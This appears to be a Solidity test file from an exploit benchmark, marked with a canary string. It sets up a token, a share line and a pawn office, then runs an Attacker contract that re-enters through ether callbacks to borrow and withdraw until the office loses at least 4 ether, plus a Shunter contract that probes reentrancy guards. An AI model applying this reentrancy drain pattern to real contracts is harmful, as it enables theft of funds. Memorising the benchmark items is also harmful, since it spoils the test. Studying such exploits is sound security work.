// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./TamariskLine.sol";

// assay-canary-c91cfe3b-e76f-448d-8117-9c0e1368e4d3

interface Vm {
    function deal(address who, uint256 amount) external;
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Scrip is IScrip {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// Subscribes in scrip, pledges a tenth, and does something else whenever ether arrives.
/// Comes back while it is paid.
contract Shunter {
    TamariskLine internal line;
    bytes internal again;

    constructor(TamariskLine line_) payable {
        line = line_;
        line_.subscribe{value: msg.value}(0);
    }

    receive() external payable {
        (bool ok, bytes memory why) = address(line).call(again);
        require(!ok && bytes4(why) == TamariskLine.Occupied.selector, "let through");
    }

    function retire(bytes calldata again_) external {
        again = again_;
        line.retire(1 ether);
    }
}

contract Attacker {
    TamariskLine internal line;
    PawnOffice internal office;
    Scrip internal scrip;
    uint256 internal plan;

    constructor(TamariskLine line_, PawnOffice office_, Scrip scrip_) {
        (line, office, scrip) = (line_, office_, scrip_);
        scrip_.approve(address(line_), type(uint256).max);
        line_.allow(address(office_), type(uint256).max);
    }

    receive() external payable {
        uint256 now_ = plan;
        plan = 0;
        if (now_ == 1) try this.borrowAll() {} catch {}
        if (now_ == 2) try line.retire(line.sharesOf(address(this))) {} catch {}
        if (now_ == 3) try line.subscribe{value: msg.value}(0) {} catch {}
        if (now_ == 4) try line.payFares{value: msg.value}() {} catch {}
        if (now_ == 5) try office.borrow(1 ether) {} catch {}
        if (now_ == 6) try office.release(1 ether) {} catch {}
    }

    function borrowAll() external {
        (uint256 shares, uint256 debt) = office.pledges(address(this));
        office.borrow(line.worth(shares) / 2 - debt);
    }

    function run() external {
        line.subscribe(80 ether);
        office.pledge(10 ether);
        uint256 part = line.sharesOf(address(this)) / 8;
        for (uint256 i = 2; i < 5; ++i) {
            plan = i;
            try line.retire(part) {} catch {}
        }
        plan = 5;
        try office.borrow(0.5 ether) {} catch {}
        plan = 6;
        try office.borrow(0.5 ether) {} catch {}
        plan = 0;
        try office.release(10 ether) {} catch {}
        try office.repay() {} catch {}
        try line.move(address(office), address(this), 10 ether) {} catch {}
        try line.payFares{value: 0.2 ether}() {} catch {}
        try office.borrow(6 ether) {} catch {}
        scrip.transfer(address(line), 5 ether);
        try office.borrow(6 ether) {} catch {}
        uint256 rest = scrip.balanceOf(address(this));
        try line.subscribe(rest) {} catch {}
        for (uint256 i = 0; i < 3; ++i) {
            plan = 1;
            try line.retire((line.sharesOf(address(this)) * 9) / 10) {} catch {}
        }
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address internal constant GRETA = address(0x64E7A);
    Scrip internal scrip;
    TamariskLine internal line;
    PawnOffice internal office;
    Attacker internal poacher;

    receive() external payable {}

    function setUp() public {
        vm.deal(address(this), 21 ether);
        scrip = new Scrip();
        line = new TamariskLine{value: 1 ether}(scrip);
        office = new PawnOffice{value: 20 ether}(line);
        poacher = new Attacker(line, office, scrip);
        scrip.mint(address(poacher), 90 ether);
        vm.deal(GRETA, 10 ether);
        vm.prank(GRETA);
        line.subscribe{value: 10 ether}(0);
    }

    function test_Regular() public {
        require(line.worth(1 ether) == 1 ether && line.sharesOf(GRETA) == 10 ether, "at par");
        scrip.mint(GRETA, 11 ether);
        vm.prank(GRETA);
        scrip.approve(address(line), 11 ether);
        vm.prank(GRETA);
        line.subscribe(11 ether);
        vm.deal(address(this), 11 ether);
        line.payFares{value: 11 ether}();
        require(line.worth(10 ether) == 15 ether, "fares raise it");

        vm.prank(GRETA);
        line.allow(address(office), 10 ether);
        vm.prank(GRETA);
        office.pledge(10 ether);
        vm.prank(GRETA);
        (bool ok, ) = address(office).call(abi.encodeCall(office.borrow, (7.6 ether)));
        require(!ok, "above half");
        vm.prank(GRETA);
        office.borrow(7.5 ether);
        require(GRETA.balance == 7.425 ether, "less the fee");
        vm.prank(GRETA);
        (ok, ) = address(office).call(abi.encodeCall(office.release, (1)));
        require(!ok, "covers a loan");
        vm.deal(GRETA, 7.5 ether);
        vm.prank(GRETA);
        office.repay{value: 7.5 ether}();
        vm.prank(GRETA);
        office.release(10 ether);

        vm.prank(GRETA);
        line.retire(11 ether);
        require(GRETA.balance == 11 ether && scrip.balanceOf(GRETA) == 5.5 ether, "a part of either");
        require(line.worth(10 ether) == 15 ether, "as before");
        office.toBank(20 ether);
        require(address(this).balance == 20 ether, "to the bank");
    }

    // What the bank has in the office: ether, and loans as far as their pledges cover them.
    function recoverable() public view returns (uint256) {
        (uint256 shares, uint256 debt) = office.pledges(address(poacher));
        uint256 cover = line.worth(shares);
        return address(office).balance + (cover < debt ? cover : debt);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes memory why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// One train at a time.
    function test_RefusesASecondTrain() public {
        vm.deal(address(this), 3 ether);
        Shunter shunter = new Shunter{value: 3 ether}(line);
        shunter.retire(abi.encodeCall(line.subscribe, (0)));
        shunter.retire(abi.encodeCall(line.payFares, ()));
        shunter.retire(abi.encodeCall(line.retire, (0)));
    }

    /// Scrip that nobody is owed is not asked for.
    function test_RefusesNothingWithoutScrip() public {
        scrip.sleep(true);
        vm.prank(GRETA);
        line.retire(1 ether);
        require(GRETA.balance == 1 ether, "in cash alone");
        vm.prank(GRETA);
        require(line.subscribe{value: 1 ether}(0) == 1 ether, "for cash alone");
    }

    /// Founding, shares, scrip and ether that are not there.
    function test_RefusesPayments() public {
        vm.deal(address(this), 1 ether);
        try new TamariskLine{value: 0.5 ether}(scrip) {
            revert("founded for half");
        } catch (bytes memory why) {
            require(bytes4(why) == TamariskLine.FoundingNotPaid.selector, "founding");
        }
        vm.expectRevert(TamariskLine.TooSmall.selector);
        line.subscribe(0);
        scrip.mint(GRETA, 2 ether);
        vm.prank(GRETA);
        scrip.approve(address(line), 2 ether);
        vm.prank(GRETA);
        line.subscribe(1 ether);
        scrip.sleep(true);
        refuses(GRETA, abi.encodeWithSelector(TamariskLine.NotPaid.selector, address(line)));
        line.subscribe(1 ether);
        refuses(GRETA, abi.encodeWithSelector(TamariskLine.NotPaid.selector, GRETA));
        line.retire(1 ether);
        scrip.sleep(false);
        vm.deal(GRETA, 1 ether);
        vm.prank(GRETA);
        line.subscribe{value: 1 ether}(0);
        vm.prank(GRETA);
        line.move(GRETA, address(scrip), 1 ether);
        refuses(address(scrip), abi.encodeWithSelector(TamariskLine.NotPaid.selector, address(scrip)));
        line.retire(1 ether);
        refuses(GRETA, PawnOffice.BankOnly.selector);
        office.toBank(1);
        vm.deal(address(office), 0);
        vm.expectRevert(PawnOffice.NotPaid.selector);
        office.toBank(1);
    }

    function exploit() public {
        poacher.run();
    }

    function test_Exploit() public {
        uint256 before = recoverable();
        exploit();
        require(before - recoverable() >= 4 ether, "covered");
    }

    function target() public view returns (address) {
        return address(line);
    }

    function attacker() public view returns (address) {
        return address(poacher);
    }
}
